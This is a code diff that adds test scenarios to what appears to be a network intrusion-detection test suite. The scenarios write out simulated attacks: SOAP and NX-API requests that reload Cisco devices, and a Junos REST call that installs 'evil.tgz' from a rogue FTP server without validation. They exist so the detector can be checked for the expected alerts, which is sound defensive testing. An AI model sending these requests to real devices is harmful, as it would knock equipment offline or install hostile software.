@@ -95,6 +95,38 @@ def bw05_web_reloads(wire: Wire) -> None:
 
 
 @scenario(
+    "BW05",
+    "malicious",
+    raises=[("BW05", WSMA + 1, ATTACKER, "10.0.1.1"), ("BW05", NXAPI + 1, ATTACKER, "10.0.1.2")],
+    site=HQ,
+    with_site=Expect((Notice("Remote_Reload", "10.0.1.1"), Notice("Remote_Reload", "10.0.1.2"))),
+)
+def bw05_web_reloads_of_cisco(wire: Wire) -> None:
+    """A reload by WSMA and by NX-API."""
+    soap = (
+        '<SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/"><SOAP:Body>'
+        '<request xmlns="urn:cisco:wsma-exec" correlator="2"><execCLI><cmd>reload</cmd></execCLI></request>'
+        "</SOAP:Body></SOAP:Envelope>"
+    )
+    http.order(wire, ATTACKER, "10.0.1.1", "/webui_wsma_http", soap.encode(), kind="text/xml")
+    form = {"ins_api": {"version": "1.0", "type": "cli_conf", "input": "reload"}}
+    http.order(wire, ATTACKER, "10.0.1.2", "/ins", posted(form))
+
+
+@scenario(
+    "BW07",
+    "malicious",
+    raises=[("BW07", JUNOS, ATTACKER, DEVICE)],
+    site=HQ,
+    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "evil.tgz"),)),
+)
+def bw07_web_junos_package(wire: Wire) -> None:
+    """Junos REST: a package is added from a rogue server."""
+    rpc = f"<package-name>ftp://{ROGUE}/evil.tgz</package-name><no-validate/>"
+    http.order(wire, ATTACKER, DEVICE, "/rpc/request-package-add", rpc.encode(), kind="application/xml")
+
+
+@scenario(
     "BW18",
     "malicious",
     raises=[("BW18", FORTIOS, STRANGER, DEVICE)],
